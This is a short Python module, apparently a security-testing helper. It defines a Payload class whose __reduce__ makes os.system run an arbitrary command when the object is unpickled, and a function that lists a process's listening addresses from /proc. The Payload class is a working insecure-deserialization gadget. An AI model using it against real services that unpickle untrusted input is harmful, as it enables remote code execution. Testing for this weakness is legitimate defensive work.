"""What a stranger sees of a process from outside, and what runs code of theirs where it is unpickled."""

import os
import struct
from ipaddress import IPv4Address, IPv6Address, ip_address
from pathlib import Path
from typing import Any


class Payload:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (self.command,)


def listening(pid: int) -> list[IPv4Address | IPv6Address]:
    """The addresses on which a process takes connections or datagrams; none of one that has ended meanwhile."""
    mine = set()
    for link in Path(f"/proc/{pid}/fd").glob("*"):
        try:
            mine.add(str(link.readlink()))
        except OSError:
            continue
    found = []
    for protocol, states in (("tcp", "0A"), ("tcp6", "0A"), ("udp", "07"), ("udp6", "07")):
        try:
            lines = Path(f"/proc/{pid}/net/{protocol}").read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if fields[3] == states and f"socket:[{fields[9]}]" in mine:
                raw = fields[1].partition(":")[0]
                words = [int(raw[i : i + 8], 16) for i in range(0, len(raw), 8)]
                found.append(ip_address(struct.pack(f"={len(words)}I", *words)))
    return found
